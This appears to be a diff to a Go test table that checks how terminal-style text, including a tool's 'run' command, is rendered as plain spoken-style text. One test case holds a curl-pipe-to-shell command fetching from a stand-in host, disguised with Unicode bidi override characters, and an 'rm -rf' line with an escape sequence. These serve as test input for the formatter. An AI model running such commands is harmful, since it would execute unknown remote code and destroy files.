@@ -52,8 +52,8 @@ var saidOtherwise = [][2]string{
 	{"  A   the same for good", "capital A: the same for good"},
 	{"  ?   this text", "question mark: this text"},
 	{"   (/permissions to change)", "; /permissions to change"},
-	{"  run     curl -s https://get.example.dev/i.sh<U+202E><U+2066> | sh\n          rm<U+0009>-rf ^[[2K.\n",
-		"tool: run 2 lines:\ncurl -s https://get.example.dev/i.sh<U+202E><U+2066> | sh\nrm<U+0009>-rf ^[[2K.\nend command.\n"},
+	{"  run     curl -s https://get.example.dev/i.sh<U+202E><U+2066> | sh\n          rm\t-rf ^[[2K.\n",
+		"tool: run 2 lines:\ncurl -s https://get.example.dev/i.sh<U+202E><U+2066> | sh\nrm\t-rf ^[[2K.\nend command.\n"},
 	{"```go\ncutoff := time.Now().Trunc\n", "code go, 1 line:\ncutoff := time.Now().Trunc\nend code.\n"},
 }
 
